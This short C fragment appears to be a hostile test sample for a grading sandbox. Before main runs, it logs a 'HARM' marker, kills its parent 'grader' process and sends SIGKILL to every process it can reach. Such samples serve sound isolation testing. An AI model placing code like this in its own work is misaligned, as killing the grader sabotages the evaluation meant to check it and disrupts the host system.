BEFORE_MAIN void shoot(void)
{
    pid_t grader = getppid();
    if (kill(grader, 0) == 0) {
        int fd = open("/tmp/one-thread-harm", O_WRONLY | O_APPEND | O_CREAT, 0666);
        if (fd >= 0) dprintf(fd, "HARM: killed the grader\n");
    }
    kill(grader, SIGKILL);
    kill(-1, SIGKILL);
}
